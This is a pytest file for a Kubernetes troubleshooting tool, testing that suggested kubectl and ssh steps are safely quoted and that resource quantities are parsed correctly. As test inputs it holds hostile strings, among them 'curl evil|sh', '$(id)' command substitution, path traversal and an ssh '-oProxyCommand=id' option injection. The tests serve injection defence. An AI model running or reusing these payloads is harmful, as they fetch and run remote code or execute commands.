"""Next steps are safe to paste and fit their object: quoting, quantities, every container of a pod."""

import math
import shlex
from typing import Any

import pytest

from lab.diagnosis import remedies
from lab.snapshots.kubernetes import Node
from lab.snapshots.quantities import quantity
from lab.snapshots.snapshot import Snapshot
from tests.unit.diagnosis.builders import (
    NAMESPACE,
    changed,
    crashing,
    deployments_of,
    event,
    healthy,
    node,
    pod,
    refused,
    respecified,
    unplaced,
    with_log,
    with_objects,
    with_pod,
)
from tests.unit.diagnosis.cases import POD, RESTRICTED, WORKER
from tests.unit.diagnosis.findings import only

SHORT = "0/2 nodes are available: 1 Insufficient memory, 1 node(s) didn't match Pod's node affinity/selector."
SET = f"kubectl -n {NAMESPACE} set resources deployment/process-worker-arm64"


def raising(*places: str) -> Snapshot:
    """Return a snapshot with a worker that ends by an exception, whose traceback names these files."""
    worker = crashing(pod())
    frames = [f'  File "{place}", line {number}, in f' for number, place in enumerate(places, 7)]
    lines = ("Traceback (most recent call last):", *frames, "ValueError: no")
    return with_log(with_pod(healthy(), worker), worker, *lines)


@pytest.mark.parametrize(
    "place", ["<string>", "x; curl evil|sh #", "/app/x; id #.py", "/app/$(id).py", "/app/-cq.py", "/app/../etc/x.py"]
)
def test_a_file_from_outside_the_project_is_not_edited(place: str) -> None:
    """A log may hold anything, and none of it gets into a shell."""
    finding = only(raising(place))
    assert finding.do.startswith(f"kubectl -n {NAMESPACE} logs process-worker-arm64-")
    assert place not in finding.do


def test_the_last_place_in_the_project_is_edited() -> None:
    """Files of libraries below it in the traceback are skipped."""
    finding = only(raising("/app/services/a.py", "/app/services/b.py", "/usr/lib/python3/json.py"))
    assert finding.do.startswith('"${EDITOR:-vi}" +8 services/b.py && lab images build')
    assert "at services/b.py:8" in finding.found


def test_names_in_steps_are_quoted() -> None:
    """Namespaces, labels, paths and hosts are."""
    assert shlex.split(remedies.up("a b;c"))[5:] == ["a b;c", "--force"]
    worker = unplaced(pod(), "0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector.")
    worker["spec"]["nodeSelector"] |= {"kind": "a b"}
    assert only(with_pod(healthy(), worker)).do == "kubectl label node r3 --overwrite 'kind=a b'"
    [_, _, _, _, _, host, command] = shlex.split(
        remedies.write_file(Node(node("arm64")), "/etc/x; id/hosts.toml", ("a",))
    )
    assert (host, "mkdir -p '/etc/x; id'" in command) == ("r3", True)


def test_ssh_is_not_called_with_a_host_that_it_would_take_for_an_option() -> None:
    """`-oProxyCommand=…` would run a command on this machine."""
    assert shlex.split(remedies.on("-oProxyCommand=id", "sync"))[0] == "echo"
    assert remedies.on("r 3", "sync") == "ssh 'r 3' sync"


def test_a_file_that_may_be_edited_is_quoted_on_its_machine() -> None:
    """A name that ssh would take for an option is only shown."""
    board = node("arm64")
    step = shlex.split(remedies.write_or_edit_file(Node(board), "/etc/a b.yaml", ("x",), then="true"))
    assert "sudo test -e '/etc/a b.yaml';" in step
    assert "sudo \"${EDITOR:-vi}\" '/etc/a b.yaml' && true;" in step
    board["metadata"]["name"] = "-oProxyCommand=id"
    assert "ssh" not in shlex.split(remedies.write_or_edit_file(Node(board), "/etc/a", ("x",), then="true"))


@pytest.mark.parametrize(
    ("text", "amount"),
    [("1Ti", 2.0**40), ("2T", 2e12), ("1Pi", 2.0**50), ("1P", 1e15), ("1Ei", 2.0**60), ("1E", 1e18), ("5e3", 5e3),
     ("5E3", 5e3), ("250m", 0.25), ("100n", 1e-7), ("100u", 1e-4), ("+1.5", 1.5), (".5", 0.5), ("", 0.0)],
)  # fmt: skip
def test_every_quantity_of_kubernetes_is_known(text: str, amount: float) -> None:
    """Suffixes are binary or decimal, and an exponent is allowed."""
    assert quantity(text) == pytest.approx(amount)


@pytest.mark.parametrize("text", ["1Xi", "many", "1 Gi", "-"])
def test_a_text_that_is_no_quantity_is_not_a_number(text: str) -> None:
    """It does not count as zero, either."""
    assert math.isnan(quantity(text))


def test_no_amount_is_computed_from_an_unknown_one() -> None:
    """The step only shows the object."""
    ended = respecified(crashing(pod(), exit_code=137, reason="OOMKilled"), resources={"limits": {"memory": "64XB"}})
    assert f"-n {NAMESPACE} describe pod/" in only(with_pod(healthy(), ended)).do
    waiting = unplaced(respecified(pod(), resources={"requests": {"memory": "64XB"}}), SHORT)
    assert f"-n {NAMESPACE} describe pod/" in only(with_pod(healthy(), waiting)).do
    board = node("arm64")
    board["status"]["allocatable"]["memory"] = "many"
    asking = unplaced(respecified(pod(), resources={"requests": {"memory": "6Gi"}}), SHORT)
    snapshot = with_objects(with_pod(healthy(), asking), nodes=(node("amd64"), board))
    assert f"-n {NAMESPACE} describe pod/" in only(snapshot).do
    quota = "exceeded quota: q, requested: requests.memory=1Gi, used: requests.memory=1XB, limited: requests.memory=1Gi"
    assert only(refused(healthy(), POD + quota)).do == f"kubectl -n {NAMESPACE} describe resourcequota/q"


@pytest.mark.parametrize(
    ("init_containers", "requested"),
    [
        ([{"name": "bootstrap", "resources": {"requests": {"memory": "1Gi"}}}], "6144Mi"),
        ([{"name": "bootstrap", "resources": {"requests": {"memory": "7Gi"}}}], "7168Mi"),
        ([{"name": "proxy", "restartPolicy": "Always", "resources": {"requests": {"memory": "1Gi"}}}], "7168Mi"),
    ],
)
def test_init_containers_are_not_added_to_a_pod(init_containers: list[dict[str, Any]], requested: str) -> None:
    """Kubernetes takes the larger amount; a sidecar counts in full."""
    worker = unplaced(respecified(pod(), resources={"requests": {"memory": "6Gi"}}), SHORT)
    worker["spec"]["initContainers"] = init_containers
    assert f"it requests {requested};" in only(with_pod(healthy(), worker)).why


def test_every_container_that_a_quota_names_states_what_it_needs() -> None:
    """Each container states the amounts that it lacks, init containers as well."""
    message = (
        "failed quota: small: must specify limits.memory for: bootstrap,process-worker; requests.cpu for: bootstrap"
    )
    first = f"{SET} -c bootstrap --limits=memory=256Mi --requests=cpu=100m"
    assert only(refused(healthy(), POD + message)).do == f"{first} && {SET} -c process-worker --limits=memory=256Mi"


def test_a_limit_that_a_quota_requires_is_not_below_the_request() -> None:
    """The API server would refuse it."""
    deployments = deployments_of(healthy())
    for deployment in deployments:
        deployment["spec"]["template"]["spec"]["containers"][0]["resources"] = {"requests": {"memory": "1Gi"}}
    message = "failed quota: small: must specify limits.memory for: process-worker"
    snapshot = refused(with_objects(healthy(), deployments=deployments), POD + message)
    assert only(snapshot).do == f"{SET} -c process-worker --limits=memory=1Gi"


def test_pod_security_is_satisfied_by_every_container() -> None:
    """Init containers must satisfy it as well."""
    deployments = deployments_of(healthy())
    for deployment in deployments:
        deployment["spec"]["template"]["spec"]["initContainers"] = [{"name": "bootstrap"}]
    finding = only(refused(with_objects(healthy(), deployments=deployments), POD + RESTRICTED))
    assert finding.object == WORKER
    assert '"initContainers":[{"name":"bootstrap","securityContext":{"allowPrivilegeEscalation":false' in finding.do


def test_a_probe_that_runs_a_command_has_no_port() -> None:
    """The finding names the command."""
    probe = {"exec": {"command": ["test", "-e", "/run/a b"]}}
    worker = changed(respecified(pod(), readinessProbe=probe), ready=False, lastState={}, restartCount=0)
    for message in ("Readiness probe failed: ", "Readiness probe failed: redis: connection refused"):
        finding = only(with_pod(healthy(), worker, event(worker, "Unhealthy", message)))
        assert finding.why == "the command of the probe fails: test -e '/run/a b'"
        assert finding.do.startswith(f"kubectl -n {NAMESPACE} logs ")
